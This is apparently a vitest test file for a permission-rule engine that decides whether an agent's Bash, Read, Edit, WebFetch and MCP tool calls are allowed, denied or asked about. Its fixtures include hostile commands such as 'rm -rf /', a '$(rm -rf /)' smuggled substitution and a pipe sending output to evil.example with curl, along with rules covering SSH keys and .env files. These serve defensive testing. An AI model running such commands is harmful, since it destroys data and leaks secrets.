import { describe, expect, it } from 'vitest';
import { isMailboxError } from '../src/errors.js';
import { hostMatches, isValidHost, isValidHostPattern, normalizeHost } from '../src/policy/host-pattern.js';
import { formatRule, type MatchContext, parseRule, ruleMatches, toolNameMatches } from '../src/policy/rule.js';
import { RuleSet } from '../src/policy/rule-set.js';
import { splitCommand } from '../src/policy/shell-command.js';

const ctx: MatchContext = { cwd: '/repo/pkg', projectRoot: '/repo', homeDir: '/home/me' };

function matches(rule: string, toolName: string, input: Record<string, unknown>): boolean {
	return ruleMatches(parseRule(rule), toolName, input, ctx);
}

describe('parseRule / formatRule', () => {
	it.each([
		['Bash', { toolName: 'Bash' }],
		['  Read  ', { toolName: 'Read' }],
		['Bash(npm test:*)', { toolName: 'Bash', ruleContent: 'npm test:*' }],
		['Read(/src/**)', { toolName: 'Read', ruleContent: '/src/**' }],
		['WebFetch(domain:*.example.com)', { toolName: 'WebFetch', ruleContent: 'domain:*.example.com' }],
		['Bash(echo $(date))', { toolName: 'Bash', ruleContent: 'echo $(date)' }],
		['Bash(python3 -c "f\\(1\\)")', { toolName: 'Bash', ruleContent: 'python3 -c "f(1)"' }],
		['Bash(echo \\*)', { toolName: 'Bash', ruleContent: 'echo \\*' }],
		['Bash(*)', { toolName: 'Bash', ruleContent: '*' }],
		['mcp__github', { toolName: 'mcp__github' }],
		['mcp__github__create-pull-request', { toolName: 'mcp__github__create-pull-request' }],
		['mcp__github__*', { toolName: 'mcp__github__*' }],
	])('parses %j', (text, expected) => {
		expect(parseRule(text)).toEqual(expected);
	});

	it.each([
		'',
		'Bash()',
		'Bash(   )',
		'Bash(npm test',
		'Bash(a) b',
		'Bash(a))',
		'Bash((a)',
		'Ba sh',
		'Bash (x)',
		'mcp__github__get_issue(x)',
		'mcp__*(x)',
		'WebFetch(https://example.com)',
		'WebFetch(domain:)',
		'WebFetch(domain:exa mple.com)',
		'WebFetch(domain:*example.com)',
	])('refuses %j with INVALID_ARGUMENT', (text) => {
		expect(() => parseRule(text)).toThrow(expect.objectContaining({ code: 'INVALID_ARGUMENT' }));
		try {
			parseRule(text);
		} catch (error) {
			expect(isMailboxError(error, 'INVALID_ARGUMENT')).toBe(true);
		}
	});

	it.each([
		[{ toolName: 'Bash' }, 'Bash'],
		[{ toolName: 'Bash', ruleContent: 'echo $(date)' }, 'Bash(echo $\\(date\\))'],
		[{ toolName: 'Bash', ruleContent: 'x\\' }, 'Bash(x\\)'],
		[{ toolName: 'Bash', ruleContent: 'grep \\(' }, 'Bash(grep \\\\()'],
		[{ toolName: 'Read', ruleContent: '/src/**' }, 'Read(/src/**)'],
	])('formats %j as %j, and parses it back', (rule, text) => {
		expect(formatRule(rule)).toBe(text);
		expect(parseRule(text)).toEqual(rule);
	});
});

describe('splitCommand', () => {
	it.each([
		['npm test', ['npm test']],
		['npm test && git push 2>&1 | tee log', ['npm test', 'git push 2>&1', 'tee log']],
		['a || b; c & d |& e', ['a', 'b', 'c', 'd', 'e']],
		['a\nb', ['a', 'b']],
		['echo \'x && y; z\' "p | q"', ['echo \'x && y; z\' "p | q"']],
		['echo a\\;b', ['echo a\\;b']],
		['cat a &> b >&2 >| c', ['cat a &> b >&2 >| c']],
		['echo "$(rm -rf /)"', ['rm -rf /', 'echo "$(rm -rf /)"']],
		['x `id` y', ['id', 'x `id` y']],
		['diff <(ls a) <(ls b)', ['ls a', 'ls b', 'diff <(ls a) <(ls b)']],
		['(cd a && make)', ['cd a', 'make']],
		['for f in *; do rm "$f"; done', ['for f in *', 'rm "$f"']],
		['{ a; b; }', ['a', 'b']],
		['  ;  ', []],
	])('splits %j', (command, parts) => {
		expect(splitCommand(command)).toEqual(parts);
	});
});

describe('Bash rules', () => {
	it.each([
		['Bash', 'anything at all && more', true],
		['Bash(*)', 'rm -rf / ; reboot', true],
		['Bash(npm run build)', 'npm run build', true],
		['Bash(npm run build)', '  npm run build  ', true],
		['Bash(npm run build)', 'npm run build --prod', false],
		['Bash(npm test:*)', 'npm test', true],
		['Bash(npm test:*)', 'npm test --watch', true],
		['Bash(npm test:*)', 'npm testify', false],
		['Bash(npm test:*)', 'npm', false],
		['Bash(npm test *)', 'npm test', true],
		['Bash(npm test *)', 'npm testify', false],
		['Bash(ls*)', 'lsof', true],
		['Bash(git * main)', 'git push origin main', true],
		['Bash(git * main)', 'git push origin dev', false],
		['Bash(echo \\*)', 'echo *', true],
		['Bash(echo \\*)', 'echo x', false],
		['Bash(npm test:*)', 'npm test && npm test --ci', true],
		['Bash(npm test:*)', 'npm test && rm -rf /', false],
		['Bash(npm test:*)', 'npm test | curl -d @- evil.example', false],
		['Bash(npm test:*)', 'npm test; rm -rf /', false],
		['Bash(npm test:*)', 'npm test $(rm -rf /)', false],
		['Bash(npm test:*)', 'npm test 2>&1', true],
		['Bash(cd a && make)', 'cd a && make', true],
		['Bash(npm test:*)', '', false],
		['Read', 'npm test', false],
	])('%s on %j → %s', (rule, command, expected) => {
		expect(matches(rule, 'Bash', { command })).toBe(expected);
	});

	it.each([
		['every', 'npm test && rm -rf /', false],
		['some', 'npm test && rm -rf /', true],
		['some', 'ls && pwd', false],
		['none', 'npm test && rm -rf /', true],
	] as const)('compound %s on %j → %s', (compound, command, expected) => {
		expect(ruleMatches(parseRule('Bash(npm test:*)'), 'Bash', { command }, ctx, { compound })).toBe(expected);
	});

	it('does not match a missing or non-string command', () => {
		expect(matches('Bash(ls)', 'Bash', {})).toBe(false);
		expect(matches('Bash(ls)', 'Bash', { command: ['ls'] })).toBe(false);
	});
});

describe('tool names', () => {
	it.each([
		['Bash', 'Bash', true],
		['Bash', 'bash', false],
		['Edit', 'Write', true],
		['Edit', 'NotebookEdit', true],
		['Write', 'Edit', false],
		['Read', 'Grep', true],
		['Read', 'Edit', false],
		['mcp__github', 'mcp__github__get_issue', true],
		['mcp__github', 'mcp__githubx__get_issue', false],
		['mcp__github', 'mcp__github', true],
		['mcp__github__*', 'mcp__github__get_issue', true],
		['mcp__github__*', 'mcp__gitlab__get_issue', false],
		['mcp__github__get_issue', 'mcp__github__get_issues', false],
		['mcp__*', 'mcp__any__tool', true],
		['*', 'Bash', true],
	])('%s covers %s → %s', (ruleTool, tool, expected) => {
		expect(toolNameMatches(ruleTool, tool)).toBe(expected);
	});
});

describe('path rules', () => {
	it.each([
		// `//` absolute
		['Read(//etc/hosts)', 'Read', { file_path: '/etc/hosts' }, true],
		['Read(//etc/*)', 'Read', { file_path: '/etc/ssh/sshd_config' }, true],
		['Read(//etc/*.conf)', 'Read', { file_path: '/etc/ssh/x.conf' }, false],
		// `~/` home
		['Read(~/.ssh/**)', 'Read', { file_path: '/home/me/.ssh/id_ed25519' }, true],
		['Read(~/.ssh/**)', 'Read', { file_path: '~/.ssh/config' }, true],
		['Read(~/.zshrc)', 'Read', { file_path: '/home/other/.zshrc' }, false],
		// `/` project root
		['Edit(/src/**)', 'Edit', { file_path: '/repo/src/a/b.ts' }, true],
		['Edit(/src/**)', 'Edit', { file_path: '/repo/pkg/src/a.ts' }, false],
		['Edit(/src/**/*.ts)', 'Write', { file_path: '/repo/src/a.ts' }, true],
		['Edit(/src/**/*.ts)', 'Write', { file_path: '/repo/src/x/y/a.js' }, false],
		['Edit(/src/**)', 'Edit', { file_path: 'src/../../src/escape.ts' }, true],
		['Edit(/src/**)', 'Edit', { file_path: '/repo/src/../secrets/k' }, false],
		// cwd-relative
		['Read(docs/*.md)', 'Read', { file_path: '/repo/pkg/docs/a.md' }, true],
		['Read(./docs/*.md)', 'Read', { file_path: 'docs/a.md' }, true],
		['Read(docs/*.md)', 'Read', { file_path: '/repo/pkg/docs/x/a.md' }, false],
		['Read(docs/?.md)', 'Read', { file_path: 'docs/ab.md' }, false],
		['Read(.env)', 'Read', { file_path: '/repo/pkg/deep/er/.env' }, true],
		['Read(.env)', 'Read', { file_path: '/repo/.env' }, false],
		['Read(*.pem)', 'Read', { file_path: 'keys/server.pem' }, true],
		['Read(secrets)', 'Read', { file_path: 'a/secrets/key.pem' }, true],
		['Read(secrets/)', 'Read', { file_path: 'secrets/key.pem' }, true],
		['Read([!a]*.ts)', 'Read', { file_path: 'b.ts' }, true],
		['Read([!a]*.ts)', 'Read', { file_path: 'a.ts' }, false],
		// tool families and input fields
		['Read(/src/**)', 'Grep', { pattern: 'TODO', path: '/repo/src' }, true],
		['Read(/src/**)', 'Glob', { pattern: '**/*.ts' }, false],
		['Read(/pkg/**)', 'Glob', { pattern: '**/*.ts' }, true],
		['Edit(/nb/**)', 'NotebookEdit', { notebook_path: '/repo/nb/a.ipynb' }, true],
		['Read(/src/**)', 'Read', {}, false],
		['Read(*)', 'Read', { file_path: '/anywhere/at/all' }, true],
		['Read(/src/**)', 'Edit', { file_path: '/repo/src/a.ts' }, false],
	])('%s on %s %j → %s', (rule, tool, input, expected) => {
		expect(matches(rule, tool, input)).toBe(expected);
	});

	it('escapes glob characters in the roots themselves', () => {
		const odd: MatchContext = { cwd: '/w/[x]', projectRoot: '/w/*', homeDir: '/h' };
		expect(ruleMatches(parseRule('Read(/a)'), 'Read', { file_path: '/w/*/a' }, odd)).toBe(true);
		expect(ruleMatches(parseRule('Read(/a)'), 'Read', { file_path: '/w/other/a' }, odd)).toBe(false);
		expect(ruleMatches(parseRule('Read(a/b)'), 'Read', { file_path: '/w/[x]/a/b' }, odd)).toBe(true);
		expect(ruleMatches(parseRule('Read(a/b)'), 'Read', { file_path: '/w/x/a/b' }, odd)).toBe(false);
	});
});

describe('WebFetch and other tools', () => {
	it.each([
		['WebFetch(domain:example.com)', 'https://example.com/docs', true],
		['WebFetch(domain:example.com)', 'https://EXAMPLE.com./docs', true],
		['WebFetch(domain:example.com)', 'https://api.example.com/', false],
		['WebFetch(domain:*.example.com)', 'https://api.example.com/', true],
		['WebFetch(domain:*.example.com)', 'https://a.b.example.com/', true],
		['WebFetch(domain:*.example.com)', 'https://example.com/', false],
		['WebFetch(domain:*.example.com)', 'https://notexample.com/', false],
		['WebFetch(domain:*.example.com)', 'https://example.com.evil.test/', false],
		['WebFetch(domain:*)', 'https://anything.test/', true],
		['WebFetch(domain:example.com)', 'not a url', false],
		['WebFetch', 'not a url', true],
	])('%s on %j → %s', (rule, url, expected) => {
		expect(matches(rule, 'WebFetch', { url })).toBe(expected);
	});

	it.each([
		['Agent(Explore)', 'Agent', { command: 'Explore' }, true],
		['Grepper(TODO)', 'Grepper', { pattern: 'TODO' }, true],
		['Grepper(TODO)', 'Grepper', { pattern: 'FIXME' }, false],
		['Fetcher(https://x.test)', 'Fetcher', { url: 'https://x.test' }, true],
		['Agent(Explore)', 'Agent', { subagent_type: 'Explore' }, false],
		['mcp__github', 'mcp__github__get_issue', { owner: 'x' }, true],
	])('%s on %s %j → %s', (rule, tool, input, expected) => {
		expect(matches(rule, tool, input)).toBe(expected);
	});
});

describe('hosts', () => {
	it.each([
		['example.com', true],
		['EXAMPLE.com.', true],
		['a-b_c.example.com', true],
		['xn--bcher-kva.example', true],
		['localhost', true],
		['10.0.0.1', true],
		['::1', true],
		['[2001:db8::1]', true],
		['', false],
		['.', false],
		['*.example.com', false],
		['exa*mple.com', false],
		['exa mple.com', false],
		['example.com\n', false],
		['exa\u0000mple.com', false],
		['example.com:443', false],
		['https://example.com', false],
		['a..b', false],
		['-a.com', false],
		['a-.com', false],
		['bücher.example', false],
		['256.1.1.1', false],
		['1.2.3', false],
		['fe80::1%eth0', false],
		[`${'a'.repeat(63)}.com`, true],
		[`${'a'.repeat(64)}.com`, false],
		[`${'a.'.repeat(126)}a`, true],
		[`${'a.'.repeat(126)}ab`, false],
	])('isValidHost(%j) → %s', (host, expected) => {
		expect(isValidHost(host)).toBe(expected);
	});

	it.each([
		['*', true],
		['example.com', true],
		['*.example.com', true],
		['*.', false],
		['*.*.example.com', false],
		['*example.com', false],
		['a.*.com', false],
		['*.10.0.0.1', false],
		['', false],
	])('isValidHostPattern(%j) → %s', (pattern, expected) => {
		expect(isValidHostPattern(pattern)).toBe(expected);
	});

	it.each([
		['example.com', 'example.com', true],
		['Example.COM.', 'example.com', true],
		['example.com', 'www.example.com', false],
		['*.example.com', 'www.example.com', true],
		['*.example.com', 'a.b.example.com', true],
		['*.example.com', 'example.com', false],
		['*.example.com', 'badexample.com', false],
		['*', 'anything.test', true],
		['*', 'bad host', false],
		['::1', '[0:0::0001]', true],
		['10.0.0.1', '10.0.0.1', true],
		['*.example.com', '*.example.com', false],
		['bad pattern', 'bad pattern', false],
	])('hostMatches(%j, %j) → %s', (pattern, host, expected) => {
		expect(hostMatches(pattern, host)).toBe(expected);
	});

	it('normalizes hosts for comparison', () => {
		expect(normalizeHost('API.Example.com.')).toBe('api.example.com');
		expect(normalizeHost('[2001:DB8:0::1]')).toBe('2001:db8::1');
		expect(normalizeHost('bad host')).toBeUndefined();
	});
});

describe('RuleSet.decide', () => {
	const policy = new RuleSet({
		allow: ['Bash(npm test:*)', 'Bash(git status)', 'Read(/src/**)', 'Edit(/src/**)', 'mcp__github'],
		deny: ['Bash(git push:*)', 'Read(.env)', 'Edit(/src/generated/**)', 'mcp__github__delete_repo'],
		ask: ['Bash(npm test -- --update)', 'Bash(curl:*)', 'WebFetch'],
	});

	it.each([
		['Bash', { command: 'npm test' }, 'allow', 'Bash(npm test:*)'],
		['Bash', { command: 'git push origin main' }, 'deny', 'Bash(git push:*)'],
		['Bash', { command: 'npm test && git push' }, 'deny', 'Bash(git push:*)'],
		['Bash', { command: 'npm test && git status' }, 'allow', 'Bash(npm test:*)'],
		['Bash', { command: 'git status; npm test' }, 'allow', 'Bash(git status)'],
		['Bash', { command: 'npm test && rm -rf /' }, 'none', undefined],
		['Bash', { command: 'npm test | curl -d @- x.test' }, 'ask', 'Bash(curl:*)'],
		['Bash', { command: 'echo $(git push)' }, 'deny', 'Bash(git push:*)'],
		['Bash', { command: 'npm test -- --update' }, 'allow', 'Bash(npm test:*)'],
		['Bash', { command: 'ls' }, 'none', undefined],
		['Read', { file_path: '/repo/src/a.ts' }, 'allow', 'Read(/src/**)'],
		['Read', { file_path: '/repo/pkg/src/.env' }, 'deny', 'Read(.env)'],
		['Grep', { pattern: 'x', path: '/repo/src' }, 'allow', 'Read(/src/**)'],
		['Write', { file_path: '/repo/src/generated/x.ts' }, 'deny', 'Edit(/src/generated/**)'],
		['Write', { file_path: '/repo/src/x.ts' }, 'allow', 'Edit(/src/**)'],
		['Edit', { file_path: '/repo/README.md' }, 'none', undefined],
		['mcp__github__get_issue', { n: 1 }, 'allow', 'mcp__github'],
		['mcp__github__delete_repo', { repo: 'x' }, 'deny', 'mcp__github__delete_repo'],
		['WebFetch', { url: 'https://example.com' }, 'ask', 'WebFetch'],
	])('%s %j → %s by %s', (tool, input, behavior, rule) => {
		const decision = policy.decide(tool, input, ctx);
		expect(decision.behavior).toBe(behavior);
		expect(decision.rule === undefined ? undefined : formatRule(decision.rule)).toBe(rule);
	});

	it.each([
		[{ allow: ['Bash'], deny: ['Bash'], ask: ['Bash'] }, 'deny'],
		[{ allow: ['Bash'], ask: ['Bash'] }, 'allow'],
		[{ allow: ['Bash(ls)'], ask: ['Bash'] }, 'ask'],
		[{ deny: ['Bash(rm:*)'], allow: ['Bash'] }, 'deny'],
		[{ allow: ['Bash(ls)'] }, 'none'],
		[{}, 'none'],
	])('precedence %j → %s', (spec, behavior) => {
		expect(new RuleSet(spec).decide('Bash', { command: 'rm -rf build' }, ctx).behavior).toBe(behavior);
	});
});

describe('RuleSet helpers', () => {
	it('adds rules for "always allow", without duplicates', () => {
		const policy = new RuleSet();
		expect(policy.decide('Bash', { command: 'npm run lint' }, ctx).behavior).toBe('none');
		expect(policy.addRule('allow', { toolName: 'Bash', ruleContent: 'npm run lint' })).toBe(true);
		expect(policy.addRule('allow', 'Bash(npm run lint)')).toBe(false);
		expect(policy.addRules('deny', ['Bash(rm:*)', { toolName: 'Bash', ruleContent: 'rm:*' }, 'Read(.env)'])).toBe(2);
		expect(policy.decide('Bash', { command: 'npm run lint' }, ctx).behavior).toBe('allow');
		expect(policy.rules('deny').map(formatRule)).toEqual(['Bash(rm:*)', 'Read(.env)']);
		expect(new RuleSet(policy.toJSON()).toJSON()).toEqual(policy.toJSON());
	});

	it.each([
		['allow', '*'],
		['allow', 'mcp__*'],
		['allow', 'mcp__*__read'],
		['allow', 'Bash('],
		['deny', { toolName: 'Bash', ruleContent: '' }],
		['maybe', 'Bash'],
	] as const)('refuses %s %j', (behavior, rule) => {
		const policy = new RuleSet();
		expect(() => policy.addRule(behavior as 'allow', rule)).toThrow(
			expect.objectContaining({ code: 'INVALID_ARGUMENT' }),
		);
	});

	it('accepts tool-name wildcards in deny and ask, and anchored ones in allow', () => {
		const policy = new RuleSet({ deny: ['mcp__*'], ask: ['*'], allow: ['mcp__github__*'] });
		expect(policy.decide('mcp__github__get_issue', {}, ctx).behavior).toBe('deny');
		expect(policy.decide('Bash', { command: 'ls' }, ctx).behavior).toBe('ask');
	});

	it('refuses invalid host patterns', () => {
		expect(() => new RuleSet({ networkAllow: ['*.'] })).toThrow(expect.objectContaining({ code: 'INVALID_ARGUMENT' }));
		expect(new RuleSet().addHost('allow', 'Example.com.')).toBe(true);
	});
});

describe('RuleSet.decideHost', () => {
	const policy = new RuleSet({
		networkAllow: ['*.npmjs.org', 'github.com'],
		networkDeny: ['evil.npmjs.org'],
		allow: ['WebFetch(domain:docs.example.com)'],
		deny: ['WebFetch(domain:*.tracker.test)'],
	});

	it.each([
		['registry.npmjs.org', 'allow', '*.npmjs.org'],
		['EVIL.npmjs.org.', 'deny', 'evil.npmjs.org'],
		['npmjs.org', 'none', undefined],
		['github.com', 'allow', 'github.com'],
		['api.github.com', 'none', undefined],
		['docs.example.com', 'allow', 'docs.example.com'],
		['a.tracker.test', 'deny', '*.tracker.test'],
		['elsewhere.test', 'none', undefined],
	])('%j → %s by %s', (host, behavior, pattern) => {
		expect(policy.decideHost(host)).toEqual(pattern === undefined ? { behavior } : { behavior, pattern });
	});

	it.each(['*.npmjs.org', 'github.com:443', 'git hub.com', '', `${'a'.repeat(300)}.com`])(
		'denies the invalid host %j with a reason',
		(host) => {
			const decision = policy.decideHost(host);
			expect(decision.behavior).toBe('deny');
			expect(decision.reason).toContain('not one valid host name');
			expect(decision.pattern).toBeUndefined();
		},
	);

	it('allows everything with `*` but still lets deny win', () => {
		const open = new RuleSet({ networkAllow: ['*'], networkDeny: ['*.internal.test'] });
		expect(open.decideHost('x.test').behavior).toBe('allow');
		expect(open.decideHost('db.internal.test').behavior).toBe('deny');
	});
});
